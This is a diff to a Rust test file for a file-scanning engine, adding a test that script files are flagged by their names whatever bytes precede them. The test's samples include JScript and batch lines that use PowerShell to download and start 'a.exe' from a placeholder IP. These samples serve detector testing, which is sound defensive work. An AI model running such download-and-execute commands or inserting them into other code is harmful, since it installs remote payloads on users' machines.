@@ -14,6 +14,7 @@ use watchfire_formats::executable::read;
 use watchfire_formats::identify::media;
 use watchfire_model::executable::{Executable, elf, mach_o as facts};
 use watchfire_model::{Artifact, Budget, Hints, Origin};
+use watchfire_testkit::archive::Zip;
 use watchfire_testkit::compound::{Node, compound};
 use watchfire_testkit::disc::{self, File};
 use watchfire_testkit::executable::{Elf, mach_o};
@@ -145,8 +146,7 @@ fn names_on_a_disc_are_those_that_people_see() {
     // Two names for the same bytes.
     let mut twice = plain;
     let folder = 20 * 2048;
-    let end = folder + twice[folder..].iter().step_by(1).rposition(|_| true).unwrap().min(0);
-    let mut at = end;
+    let mut at = folder;
     while twice[at] != 0 {
         at += usize::from(twice[at]);
     }
@@ -201,4 +201,54 @@ fn streams_of_a_compound_file_are_found_in_any_case() {
         ),
     ]);
     assert_eq!(found("a.doc", &file).1, ["a.vbs"]);
+}
+
+#[test]
+fn a_script_is_one_by_its_name_whatever_it_begins_with() {
+    let script = "new ActiveXObject(\"WScript.Shell\").Run(\"powershell iwr http://203.0.113.7/a.exe\")\n";
+    let batch = "powershell -c \"iwr http://203.0.113.7/a.exe -OutFile a.exe; start a.exe\"\r\nexit /b\r\n";
+    let zip = Zip::new().stored("a.txt", b"hello").build();
+    for (name, bytes) in [
+        ("a.js", [b"<!--x--><html>\n", script.as_bytes()].concat()),
+        ("a.js", [b"[\"a\"];\n", script.as_bytes(), b"[]"].concat()),
+        ("a.js", [b"From:\nTo:\nSubject:\n", script.as_bytes()].concat()),
+        (
+            "a.js",
+            [b"/*\nrule a {\n condition:\n}*/\n", script.as_bytes()].concat(),
+        ),
+        ("a.js", [b"// %PDF-1.4\n", script.as_bytes()].concat()),
+        ("A.JS", [b"GIF89a=1;\n", script.as_bytes()].concat()),
+        (
+            "a.ps1",
+            b"#!/bin/sh\nstart-process x; iwr http://203.0.113.7/a.exe\n".to_vec(),
+        ),
+        ("a.bat ", [batch.as_bytes(), &zip].concat()),
+        ("a.hta", [b"<html><script>", script.as_bytes(), b"</script>"].concat()),
+    ] {
+        let (rules, _) = found(name, &bytes);
+        assert!(rules.contains(&"script-downloads-and-runs"), "{name} {rules:?}");
+    }
+    // Nor does it become a mere text by its length.
+    let long = format!("{script}/*{}*/", "x".repeat(400_000));
+    let engine = Engine::new(Settings::default());
+    let hints = Hints {
+        name: Some("a.js".into()),
+        ..Hints::default()
+    };
+    let origin = Origin::root("a.js");
+    let read = engine
+        .analyze_stream(&mut long.as_bytes(), origin, hints, 1, &engine.budget())
+        .unwrap();
+    assert!(
+        read.findings
+            .iter()
+            .any(|finding| finding.rule.0 == "script-downloads-and-runs")
+    );
+    // Bytes that were met under another name first are read for this one.
+    let twice = Zip::new()
+        .stored("a.txt", script.as_bytes())
+        .stored("b.js", script.as_bytes())
+        .build();
+    let (rules, _) = found("a.zip", &twice);
+    assert!(rules.contains(&"script-downloads-and-runs"), "{rules:?}");
 }
